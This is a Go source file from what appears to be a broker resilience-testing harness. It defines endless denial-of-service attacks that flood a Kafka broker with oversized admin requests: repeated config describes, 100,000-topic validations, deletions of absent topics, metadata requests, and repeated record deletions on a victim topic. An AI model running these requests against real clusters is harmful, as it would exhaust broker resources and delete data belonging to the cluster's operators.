package hostile

import (
	"context"
	"fmt"

	"github.com/twmb/franz-go/pkg/kmsg"
)

// adminAttacks send expensive requests of administrators.
func adminAttacks() []Attack {
	endless := func(name, aim string, request func(*Attacker) kmsg.Request) Attack {
		return Attack{
			Name: name, Aim: aim, Holds: budget, Keeps: some, prepare: victimTopic,
			run: func(ctx context.Context, m *Attacker) error { return repeat(ctx, m, frame(request(m))) },
		}
	}
	return []Attack{
		endless("configs-of-one-topic", "four clients describe one topic's config 40,000 times in one request",
			func(m *Attacker) kmsg.Request { return describeRepeated(m.some(40_000)) }),
		endless("topics-to-validate", "four clients validate 100,000 topics in one request",
			func(m *Attacker) kmsg.Request { return validate(m.some(100_000)) }),
		endless("topics-that-are-not", "four clients delete 100,000 unknown topics",
			func(m *Attacker) kmsg.Request { return deleteAbsent(m.some(100_000)) }),
		endless("records-of-one-partition", "four clients delete records of one partition 70,000 times in one request",
			func(m *Attacker) kmsg.Request { return deleteRepeated(m.some(70_000)) }),
		endless("metadata-of-absent-topics", "four clients request the metadata of 100,000 unknown topics",
			func(m *Attacker) kmsg.Request { return metadataRequest(m.some(100_000)) }),
	}
}

func describeRepeated(n int) kmsg.Request {
	req := kmsg.NewPtrDescribeConfigsRequest()
	req.Version = 1
	for range n {
		r := kmsg.NewDescribeConfigsRequestResource()
		r.ResourceType, r.ResourceName, r.ConfigNames = kmsg.ConfigResourceTypeTopic, victim, []string{"x"}
		req.Resources = append(req.Resources, r)
	}
	return req
}

func validate(n int) kmsg.Request {
	req := kmsg.NewPtrCreateTopicsRequest()
	req.Version, req.TimeoutMillis, req.ValidateOnly = 5, 30_000, true
	for i := range n {
		t := kmsg.NewCreateTopicsRequestTopic()
		t.Topic, t.NumPartitions, t.ReplicationFactor = fmt.Sprintf("t%d", i), 100, 1
		req.Topics = append(req.Topics, t)
	}
	return req
}

func deleteAbsent(n int) kmsg.Request {
	req := kmsg.NewPtrDeleteTopicsRequest()
	req.Version, req.TimeoutMillis = 5, 30_000
	for i := range n {
		req.TopicNames = append(req.TopicNames, fmt.Sprintf("absent-%d", i))
	}
	return req
}

func deleteRepeated(n int) kmsg.Request {
	req := kmsg.NewPtrDeleteRecordsRequest()
	req.Version, req.TimeoutMillis = 2, 30_000
	t := kmsg.NewDeleteRecordsRequestTopic()
	t.Topic = victim
	for range n {
		t.Partitions = append(t.Partitions, kmsg.DeleteRecordsRequestTopicPartition{Offset: -1})
	}
	req.Topics = append(req.Topics, t)
	return req
}
